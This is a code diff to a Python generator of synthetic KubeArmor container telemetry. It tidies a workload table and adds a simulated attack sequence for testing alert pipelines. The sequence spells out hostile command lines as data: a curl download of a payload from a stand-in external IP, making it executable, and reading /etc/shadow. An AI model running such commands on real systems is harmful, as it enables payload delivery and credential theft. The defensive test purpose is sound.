@@ -3,12 +3,15 @@
 Every event has its own PIDs, and its own path, arguments or peer; pods, images and labels repeat as in a cluster.
 """
 
+# ruff: noqa: E501 - a row of a table is one line
+
 from __future__ import annotations
 
 import itertools
 import random
 from collections.abc import Callable, Iterator, Mapping
 from dataclasses import dataclass
+from typing import NamedTuple
 
 from otelbridge.event import Stream
 from otelbridge.pb import kubearmor_pb2
@@ -71,16 +74,16 @@ def _workload(row: tuple[str, str, str, str, str, str, str]) -> Workload:
 WORKLOADS = tuple(
     _workload(row)
     for row in (
-        ("frontend", "Deployment", "shop", "web", "docker.io/library/nginx:1.27.1", "/usr/sbin/nginx", "/etc/nginx /var/cache/nginx /usr/share/nginx/html"),  # noqa: E501 - a table
-        ("checkout", "Deployment", "shop", "checkout", "ghcr.io/shop/checkout:4.2.0", "/app/checkout", "/app/config /tmp /var/run/secrets/kubernetes.io/serviceaccount"),  # noqa: E501
-        ("orders-db", "StatefulSet", "shop", "postgres", "docker.io/library/postgres:16.4", "/usr/lib/postgresql/16/bin/postgres", "/var/lib/postgresql/data/base /var/lib/postgresql/data/pg_wal"),  # noqa: E501
-        ("cart-cache", "StatefulSet", "shop", "redis", "docker.io/library/redis:7.4", "/usr/local/bin/redis-server", "/data /etc/redis"),  # noqa: E501
-        ("payments", "Deployment", "payments", "api", "registry.corp.example:5000/payments/api:2024.11", "/usr/bin/java", "/opt/payments/lib /opt/payments/conf /tmp/hsperfdata_app"),  # noqa: E501
-        ("ledger", "Deployment", "payments", "ledger", "registry.corp.example:5000/payments/ledger:2024.11", "/usr/local/bin/python3.12", "/srv/ledger /usr/local/lib/python3.12/site-packages"),  # noqa: E501
-        ("wordpress", "Deployment", "wordpress-mysql", "wordpress", "docker.io/library/wordpress:6.6-apache", "/usr/sbin/apache2", "/var/www/html/wp-content /var/www/html/wp-includes /etc/apache2"),  # noqa: E501
-        ("mysql", "StatefulSet", "wordpress-mysql", "mysql", "docker.io/library/mysql:8.4", "/usr/sbin/mysqld", "/var/lib/mysql /etc/mysql"),  # noqa: E501
-        ("log-shipper", "DaemonSet", "observability", "fluent-bit", "cr.fluentbit.io/fluent/fluent-bit:3.1.7", "/fluent-bit/bin/fluent-bit", "/var/log/containers /fluent-bit/etc"),  # noqa: E501
-        ("nightly-report", "CronJob", "batch", "report", "ghcr.io/corp/report:1.9", "/usr/bin/node", "/srv/report /srv/report/node_modules /tmp"),  # noqa: E501
+        ("frontend", "Deployment", "shop", "web", "docker.io/library/nginx:1.27.1", "/usr/sbin/nginx", "/etc/nginx /var/cache/nginx /usr/share/nginx/html"),
+        ("checkout", "Deployment", "shop", "checkout", "ghcr.io/shop/checkout:4.2.0", "/app/checkout", "/app/config /tmp /var/run/secrets/kubernetes.io/serviceaccount"),
+        ("orders-db", "StatefulSet", "shop", "postgres", "docker.io/library/postgres:16.4", "/usr/lib/postgresql/16/bin/postgres", "/var/lib/postgresql/data/base /var/lib/postgresql/data/pg_wal"),
+        ("cart-cache", "StatefulSet", "shop", "redis", "docker.io/library/redis:7.4", "/usr/local/bin/redis-server", "/data /etc/redis"),
+        ("payments", "Deployment", "payments", "api", "registry.corp.example:5000/payments/api:2024.11", "/usr/bin/java", "/opt/payments/lib /opt/payments/conf /tmp/hsperfdata_app"),
+        ("ledger", "Deployment", "payments", "ledger", "registry.corp.example:5000/payments/ledger:2024.11", "/usr/local/bin/python3.12", "/srv/ledger /usr/local/lib/python3.12/site-packages"),
+        ("wordpress", "Deployment", "wordpress-mysql", "wordpress", "docker.io/library/wordpress:6.6-apache", "/usr/sbin/apache2", "/var/www/html/wp-content /var/www/html/wp-includes /etc/apache2"),
+        ("mysql", "StatefulSet", "wordpress-mysql", "mysql", "docker.io/library/mysql:8.4", "/usr/sbin/mysqld", "/var/lib/mysql /etc/mysql"),
+        ("log-shipper", "DaemonSet", "observability", "fluent-bit", "cr.fluentbit.io/fluent/fluent-bit:3.1.7", "/fluent-bit/bin/fluent-bit", "/var/log/containers /fluent-bit/etc"),
+        ("nightly-report", "CronJob", "batch", "report", "ghcr.io/corp/report:1.9", "/usr/bin/node", "/srv/report /srv/report/node_modules /tmp"),
     )
 )  # fmt: skip
 
@@ -276,3 +279,77 @@ def _resolve(chance: random.Random, number: int, pod: Pod, event: Observed) -> N
     event.Data = f"kfunc=UDP_SENDSKB domain={domain} daddr=10.43.0.10 qtype=A"
     event.EventData["Kfunc"] = "UDP_SENDSKB"
     event.EventData["Domain"] = domain
+
+
+RUNC = "/usr/bin/runc"
+SHELL = "/bin/sh"
+DENIED = "Permission denied"
+ATTACK_POLICY = "ksp-block-tmp-exec"
+ATTACK_FIRST_PID = 4_000
+
+
+class AttackStep(NamedTuple):
+    """One event of the attack."""
+
+    process: int
+    """In the order in which they begin; the first is the shell."""
+    parent: int
+    operation: str
+    executable: str
+    resource: str
+    data: str
+    result: str = "Passed"
+
+
+ATTACK = (
+    AttackStep(1, 0, "Process", SHELL, "/bin/sh", "syscall=SYS_EXECVE"),
+    AttackStep(2, 1, "Process", "/usr/bin/id", "/usr/bin/id", "syscall=SYS_EXECVE"),
+    AttackStep(3, 1, "Process", "/usr/bin/curl", "/usr/bin/curl -sSo /run/payload http://203.0.113.9/p", "syscall=SYS_EXECVE"),
+    AttackStep(3, 1, "Network", "/usr/bin/curl", "remoteip=203.0.113.9 port=80 protocol=TCP", "kprobe=tcp_connect domain=AF_INET"),
+    AttackStep(3, 1, "File", "/usr/bin/curl", "/run/payload", "syscall=SYS_OPENAT fd=-100 flags=O_WRONLY|O_CREAT|O_TRUNC"),
+    AttackStep(4, 1, "Process", "/bin/chmod", "/bin/chmod +x /run/payload", "syscall=SYS_EXECVE"),
+    AttackStep(5, 1, "Process", "/run/payload", "/run/payload", "lsm=SECURITY_BPRM_CHECK", DENIED),
+    AttackStep(6, 1, "Process", "/bin/cat", "/bin/cat /etc/shadow", "syscall=SYS_EXECVE"),
+    AttackStep(6, 1, "File", "/bin/cat", "/etc/shadow", "lsm=FILE_OPEN", DENIED),
+)  # fmt: skip
+
+
+def attack(seed: int, streams: tuple[Stream, ...]) -> Iterator[tuple[Stream, KubeArmorMessage]]:
+    """An attack by way of an exec session: a shell, a download, a payload that is denied.
+
+    The events of the given streams, in their order; what is denied is an alert. Their times are not set.
+    """
+    pod = invent_pods(seed)[0]
+    first_pid = ATTACK_FIRST_PID + seed % 1_000_000
+    session = seed & 0xFFFF or 1
+    for step in ATTACK:
+        stream = Stream.ALERTS if step.result == DENIED else Stream.LOGS
+        if stream in streams:
+            yield stream, _attack_event(step, pod, first_pid, session)
+
+
+def _attack_event(step: AttackStep, pod: Pod, first_pid: int, session: int) -> Observed:
+    event: Observed
+    if step.result == DENIED:
+        event = kubearmor_pb2.Alert(
+            Type="MatchedPolicy", PolicyName=ATTACK_POLICY, Severity="8", Action="Block", Enforcer="BPFLSM"
+        )
+    else:
+        event = kubearmor_pb2.Log(Type="ContainerLog")
+    event.ClusterName, event.HostName, event.NodeID = "default", pod.node.name, pod.node.node_id
+    event.NamespaceName, event.PodName, event.Labels = pod.workload.namespace, pod.name, pod.labels
+    event.ContainerID, event.ContainerName = pod.container_id, pod.workload.container
+    event.ContainerImage = pod.image
+    event.Owner.Ref, event.Owner.Name, event.Owner.Namespace = pod.workload.kind, pod.workload.name, event.NamespaceName
+    event.HostPID, event.PID = first_pid + step.process, 100 + step.process
+    event.HostPPID, event.PPID = first_pid + step.parent, 100 + step.parent if step.parent else first_pid
+    event.ProcessName = step.executable
+    event.ParentProcessName = SHELL if step.parent else RUNC
+    is_exec = step.operation == "Process"
+    event.Source = event.ParentProcessName if is_exec else step.executable
+    event.Operation, event.Resource, event.Data, event.Result = step.operation, step.resource, step.data, step.result
+    # The shell has the session's own id; what it forks keeps the low half of it.
+    event.ExecEvent.ExecID = str((event.HostPID if step.parent else 77) << 32 | session)
+    task = event.ParentProcessName if is_exec else step.executable
+    event.ExecEvent.ExecutableName = task.rpartition("/")[2]
+    return event
